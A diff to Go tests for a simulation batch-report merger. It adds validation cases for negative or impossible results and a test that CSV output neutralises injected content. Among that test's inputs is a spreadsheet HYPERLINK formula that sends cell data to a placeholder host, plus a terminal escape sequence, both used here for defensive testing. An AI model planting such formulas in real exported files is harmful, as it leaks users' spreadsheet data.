@@ -61,6 +61,14 @@ func TestMergeRefuses(t *testing.T) {
 		{"no sides", edit(t, good, func(o map[string]any) { delete(o, "sides") }), `names no sides`},
 		{"seed overflow", str(`"seed": 1,`)(`"seed": 18446744073709551616,`), `:seed is a number 18446744073709551616, not a whole number from 0`},
 		{"negative seed", str(`{"seed":2,`)(`{"seed":-2,`), `:results.seed is a number -2`},
+		{"turns", edit(t, good, func(o map[string]any) { result(o, 1)["turns"] = -7 }), `:seed 2: it lasted -7 turns`},
+		{"commands", edit(t, good, func(o map[string]any) { result(o, 1)["commands"] = -1 }), `:seed 2: it gave -1 commands`},
+		{"men lost", edit(t, good, func(o map[string]any) {
+			result(o, 0)["losses"] = map[string]any{"insurgents": map[string]any{"men": -5}}
+		}), `:seed 1: the losses of "insurgents" hold -5`},
+		{"a capture", edit(t, good, func(o map[string]any) {
+			result(o, 0)["captures"] = []any{map[string]any{"place": "atlantis", "side": "zog", "turn": 2}}
+		}), `:seed 1: a capture of "atlantis" by "zog"`},
 		{"cut short", good[:len(good)/2], `:cut short`},
 		{"not JSON", []byte("title = \"x\"\n"), `:not a batch`},
 		{"an array", []byte("[1, 2]"), `:an array`},
@@ -169,4 +177,20 @@ func FuzzReadReport(f *testing.F) {
 			t.Errorf("more than one line: %q", err)
 		}
 	})
+}
+
+// TestCSVFieldsAreInert: a field read from a batch file can neither run as
+// a spreadsheet formula nor send escapes to a terminal.
+func TestCSVFieldsAreInert(t *testing.T) {
+	for in, want := range map[string]string{
+		`=HYPERLINK("http://x/?"&A1,"x")`: `"'=HYPERLINK(""http://x/?""&A1,""x"")"`,
+		"\x1b[2Jcleared":                  " [2Jcleared",
+		"-1+1":                            "'-1+1",
+		"held, then lost":                 `"held, then lost"`,
+		"plain":                           "plain",
+	} {
+		if got := csvQuote(in); got != want {
+			t.Errorf("csvQuote(%q) = %q, want %q", in, got, want)
+		}
+	}
 }
